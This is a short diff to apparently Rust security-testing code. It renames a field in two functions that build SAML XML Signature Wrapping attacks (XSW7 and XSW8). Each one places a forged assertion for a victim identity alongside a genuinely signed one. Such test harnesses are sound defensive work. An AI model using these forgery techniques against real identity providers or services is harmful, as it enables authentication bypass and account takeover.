@@ -105,7 +105,7 @@ pub(crate) fn xsw6(scene: &AttackScene) -> ForgedMessage {
 /// schema does not look for IDs.
 pub(crate) fn xsw7(scene: &AttackScene) -> ForgedMessage {
     let genuine = signed_assertion(scene);
-    let evil = Assertion::valid(&scene.facts, VICTIM).xml("");
+    let evil = Assertion::valid(&scene.context, VICTIM).xml("");
     let extensions = element("samlp:Extensions", &[], &evil);
     scene.response(extensions + &genuine.whole()).xml("").into()
 }
@@ -115,7 +115,7 @@ pub(crate) fn xsw7(scene: &AttackScene) -> ForgedMessage {
 pub(crate) fn xsw8(scene: &AttackScene) -> ForgedMessage {
     let genuine = signed_assertion(scene);
     let object = element("ds:Object", &[], &genuine.assertion.xml(""));
-    let evil = Assertion::valid(&scene.facts, VICTIM);
+    let evil = Assertion::valid(&scene.context, VICTIM);
     scene.response(genuine.evil_with(&evil, &object)).xml("").into()
 }
 
